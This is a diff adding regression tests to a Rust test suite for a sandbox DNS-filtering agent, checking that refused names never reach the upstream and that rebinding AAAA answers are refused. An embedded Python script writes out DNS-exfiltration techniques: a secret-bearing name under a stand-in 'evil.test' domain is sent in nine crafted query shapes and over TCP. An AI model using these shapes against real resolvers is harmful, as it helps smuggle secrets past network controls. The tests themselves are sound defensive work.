@@ -9,6 +9,16 @@
 //! a socket named and which sandbox sent a datagram) — attacked from a sandbox that can
 //! trigger queries at will and open as many sockets as it likes.
 //!
+//! Found here (each test fails against the agent before its fix): the redirect's record
+//! of which nameserver a socket named lived in one LRU for the whole node, which a
+//! sandbox churning sockets emptied of every other tenant's records; the answer cache,
+//! bounded by entries only, let one sandbox grow the agent by ~20 KiB per name of a zone
+//! with many addresses per name; an address's claim kept every name that taught it, so a
+//! zone whose names share an address grew it without bound; a refused name in a message
+//! the resolver does not answer (a second question, an UPDATE's zone) went unrecorded.
+//! Held, kept as regression tests: a refused name reaches the upstream in no shape of
+//! message; AAAA answers carrying private addresses are refused.
+//!
 //! Everything lives on `lo` in the test's own network namespace: dnsmasq (or a small
 //! Python DNS server the test scripts) is the upstream on 127.0.0.1.
 
@@ -397,5 +407,215 @@ fn one_sandbox_resolving_many_names_of_one_address_does_not_grow_its_names_witho
     assert!(
         (1..=64).contains(&names),
         "one address is held for {names} names of one sandbox"
+    );
+}
+
+const RECORDING_PORT: u16 = 5517;
+
+/// A DNS server (Python, UDP and TCP) on 127.0.0.1:[`RECORDING_PORT`] that writes every
+/// question name it is asked to `log`, one per line, and answers: `allowed.test` A →
+/// 203.0.113.10; AAAA queries from the table `v6` (name → address), TTL 60; anything
+/// else NXDOMAIN.
+fn recording_upstream(log: &std::path::Path, v6: &[(&str, &str)]) -> hb_tests::PythonServer {
+    std::fs::write(log, "").expect("log");
+    hb_tests::PythonServer::start(&format!(
+        r#"
+import socket, struct, threading
+V6 = dict({v6:?})
+LOG = {log:?}
+lock = threading.Lock()
+def answer(q):
+    end = 12; labels = []
+    while q[end] != 0:
+        labels.append(q[end + 1:end + 1 + q[end]].decode("latin-1")); end += q[end] + 1
+    name = ".".join(labels).lower()
+    with lock, open(LOG, "a") as f:
+        f.write(name + "\n")
+    qtype = struct.unpack("!H", q[end + 1:end + 3])[0]
+    rrs = []; rcode = 0
+    if name == "allowed.test" and qtype == 1:
+        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.10")]
+    elif name in V6 and qtype == 28:
+        rrs = [b"\xc0\x0c" + struct.pack("!HHIH", 28, 1, 60, 16) + socket.inet_pton(socket.AF_INET6, V6[name])]
+    elif name not in V6 and name != "allowed.test":
+        rcode = 3
+    return q[:2] + struct.pack("!HHHHH", 0x8180 | rcode, 1, len(rrs), 0, 0) + q[12:end + 5] + b"".join(rrs)
+def tcp():
+    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    t.bind(("127.0.0.1", {RECORDING_PORT})); t.listen(16)
+    while True:
+        c, _ = t.accept()
+        try:
+            ln = struct.unpack("!H", c.recv(2, socket.MSG_WAITALL))[0]
+            r = answer(c.recv(ln, socket.MSG_WAITALL))
+            c.sendall(struct.pack("!H", len(r)) + r)
+        except Exception:
+            pass
+        c.close()
+threading.Thread(target=tcp, daemon=True).start()
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", {RECORDING_PORT}))
+print("ready", flush=True)
+while True:
+    q, a = s.recvfrom(4096)
+    s.sendto(answer(q), a)
+"#,
+        log = log.display().to_string(),
+    ))
+}
+
+/// A sandbox's ways to put a name in front of the upstream: `argv[1]` (a name its policy
+/// refuses) asked in upper case, in class ANY, as TXT, ANY and HTTPS, with an EDNS
+/// client-subnet option, over TCP, behind a 63-byte label, as a second question and as a
+/// DNS UPDATE's zone; then `allowed.test` (the control: it must reach the upstream).
+/// Prints one `shape rcode R` per message.
+const PY_EXFIL_SHAPES: &str = r#"
+import socket, struct, sys
+secret = sys.argv[1]
+def name(n):
+    return b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0"
+def msg(i, names, qtype=1, qclass=1, opcode=0, extra=b"", ar=0):
+    h = struct.pack("!HHHHHH", i, (opcode << 11) | 0x0100, len(names), 0, 0, ar)
+    return h + b"".join(name(n) + struct.pack("!HH", qtype, qclass) for n in names) + extra
+ecs = b"\0" + struct.pack("!HHIH", 41, 1232, 0, 11) + struct.pack("!HHHBB", 8, 7, 1, 24, 0) + bytes([198, 51, 100])
+shapes = [
+    ("upper", msg(1, [secret.upper()])),
+    ("class-any", msg(2, [secret], qclass=255)),
+    ("txt", msg(3, [secret], qtype=16)),
+    ("any", msg(4, [secret], qtype=255)),
+    ("https", msg(5, [secret], qtype=65)),
+    ("ecs", msg(6, [secret], extra=ecs, ar=1)),
+    ("long-label", msg(7, ["x" * 63 + "." + secret])),
+    ("two-questions", msg(8, ["allowed.test", secret])),
+    ("update", msg(9, [secret], qtype=6, opcode=5)),
+]
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+u.connect(("192.0.2.53", 53))
+for shape, m in shapes:
+    u.send(m)
+    try:
+        print(shape, "rcode", u.recv(4096)[3] & 15, flush=True)
+    except OSError as e:
+        print(shape, "lost", e, flush=True)
+t = socket.create_connection(("192.0.2.53", 53), timeout=5)
+q = msg(10, [secret])
+t.sendall(struct.pack("!H", len(q)) + q)
+print("tcp rcode", t.recv(4096)[5] & 15, flush=True)
+u.send(msg(11, ["allowed.test"]))
+print("control rcode", u.recv(4096)[3] & 15, flush=True)
+"#;
+
+/// Held (a regression test): a name the policy refuses never reaches the upstream (whose
+/// recursion would carry its labels to the attacker's authoritative server) in any shape
+/// a sandbox can give a message, and every such message is answered.
+#[test]
+fn a_refused_name_reaches_the_upstream_in_no_shape_of_message() {
+    hb_tests::require_root();
+    hb_tests::private_netns(&["192.0.2.53", "203.0.113.10"]);
+    let dir = std::env::temp_dir().join(format!("hb-ar15-exfil-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let log = dir.join("asked.log");
+    let _up = recording_upstream(&log, &[]);
+    let env = started_agent(
+        "ar15exfil",
+        &format!(
+            "{}\n[[policy]]\nname = \"web\"\nallow_domains = [\"allowed.test\"]\n",
+            resolver_config(RECORDING_PORT, true, "", &["203.0.113.0/24"])
+        ),
+    );
+    let said = nobody_run(
+        &env,
+        "web",
+        &[python(), "-c", PY_EXFIL_SHAPES, "k3y-4f9a.exfil.evil.test"],
+    );
+    let asked = std::fs::read_to_string(&log).expect("log");
+    let _ = std::fs::remove_dir_all(&dir);
+    println!(
+        "figure: {} ; the upstream was asked: {:?}",
+        said.replace('\n', ", "),
+        asked.lines().collect::<Vec<_>>()
+    );
+    assert!(
+        said.contains("control rcode 0") && asked.contains("allowed.test"),
+        "the control reached the upstream: {said} / {asked}"
+    );
+    assert_eq!(
+        said.lines().count(),
+        11,
+        "every message was answered: {said}"
+    );
+    assert!(
+        !asked.contains("evil") && !asked.contains("k3y"),
+        "a refused name reached the upstream: {asked}"
+    );
+}
+
+/// Held (a regression test): AAAA answers that carry a private IPv4 address (IPv4-mapped,
+/// the well-known NAT64 prefix, 6to4, IPv4-compatible), Teredo, unique-local and
+/// link-local addresses are refused as rebinding and never enter the allow map; a public
+/// AAAA (documentation space, an exception of the test) resolves.
+#[test]
+fn aaaa_answers_carrying_private_addresses_are_refused() {
+    hb_tests::require_root();
+    hb_tests::private_netns(&["192.0.2.53"]);
+    let dir = std::env::temp_dir().join(format!("hb-ar15-aaaa-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("dir");
+    let private = [
+        ("mapped.test", "::ffff:10.0.0.1"),
+        ("nat64.test", "64:ff9b::a00:1"),
+        ("sixtofour.test", "2002:a00:1::1"),
+        ("compat.test", "::10.0.0.1"),
+        ("teredo.test", "2001:0:4136:e378:8000:63bf:f5ff:fffe"),
+        ("ula.test", "fd00::1"),
+        ("linklocal.test", "fe80::1"),
+        ("metadata.test", "::ffff:169.254.169.254"),
+    ];
+    let mut table = private.to_vec();
+    table.push(("public.test", "2001:db8::10"));
+    let _up = recording_upstream(&dir.join("asked.log"), &table);
+    let names: Vec<&str> = table.iter().map(|(n, _)| *n).collect();
+    let env = started_agent(
+        "ar15aaaa",
+        &format!(
+            "{}\n[[policy]]\nname = \"web\"\nallow_domains = {names:?}\n",
+            resolver_config(
+                RECORDING_PORT,
+                true,
+                "",
+                &["203.0.113.0/24", "2001:db8::/32"]
+            )
+        ),
+    );
+    let script = r#"
+import socket, struct, sys
+for i, n in enumerate(sys.argv[1:]):
+    c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(5)
+    c.connect(("192.0.2.53", 53))
+    c.send(struct.pack("!HHHHHH", i + 1, 0x0100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in n.split(".")) + b"\0" + struct.pack("!HH", 28, 1))
+    d = c.recv(512)
+    print(n, "rcode", d[3] & 15, "answers", struct.unpack("!H", d[6:8])[0], flush=True)
+"#;
+    let mut args = vec![python(), "-c", script];
+    args.extend(names.iter().copied());
+    let said = nobody_run(&env, "web", &args);
+    let _ = std::fs::remove_dir_all(&dir);
+    let allow6 = env.hb_json(&["maps", "dump", "allow6"]);
+    println!("figure: {} ; allow6: {allow6}", said.replace('\n', ", "));
+    assert!(
+        said.contains("public.test rcode 0 answers 1"),
+        "the public control resolves: {said}"
+    );
+    for (name, addr) in private {
+        assert!(
+            said.contains(&format!("{name} rcode 5 answers 0")),
+            "{name} ({addr}) was not refused: {said}"
+        );
+        env.wait_event(&format!("dns_rebinding for {name}"), |e| {
+            e["reason"] == "dns_rebinding" && e["name"] == name
+        });
+    }
+    let rows = allow6.as_array().expect("rows");
+    assert!(
+        rows.iter().all(|r| r["ip"] == "2001:db8::10"),
+        "only the public address is allowed: {allow6}"
     );
 }
